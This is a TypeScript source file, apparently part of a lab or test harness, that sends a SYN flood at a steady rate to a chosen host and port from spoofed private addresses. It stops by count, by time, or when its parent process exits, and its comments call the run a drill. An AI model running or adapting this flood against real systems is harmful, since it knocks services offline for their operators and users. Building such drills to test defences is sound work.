/** The flood of `syn-flood`: so many SYNs at a steady pace, from addresses that nobody has; then it ends. Arguments: host, port, a second, milliseconds. */

import { parseIpv4 } from '../model/address.js';
import { openRawPackets } from '../shell/raw-packets.js';
import { synPacket } from './syn.js';

const [host = '', port = '', perSecond = '', forMs = ''] = process.argv.slice(2);
const to = { host: parseIpv4(host)!, port: Number(port) };
const count = (Number(perSecond) * Number(forMs)) / 1_000;
const tickMs = 5;
/** On the client's segment, and nobody's: .128 to .254. */
const firstHost = 128;
const hosts = 127;

const packets = openRawPackets();
const parent = process.ppid;
const startedMs = performance.now();
let sent = 0;

const tick = (): void => {
  const elapsedMs = performance.now() - startedMs;
  const due = Math.min(count, Math.floor((elapsedMs * Number(perSecond)) / 1_000));
  for (; sent < due; sent += 1) {
    const from = {
      host: parseIpv4(`10.10.0.${firstHost + (sent % hosts)}`)!,
      port: 1_024 + (sent % 60_000),
    };
    packets.send(synPacket(from, to, sent));
  }
  // Late by a second it ends nevertheless: bounded in count and in time. So it does when the drill has gone.
  if (sent < count && elapsedMs < Number(forMs) + 1_000 && process.ppid === parent) setTimeout(tick, tickMs);
  else process.stdout.write(`${sent}\n`, () => process.exit(0));
};

tick();
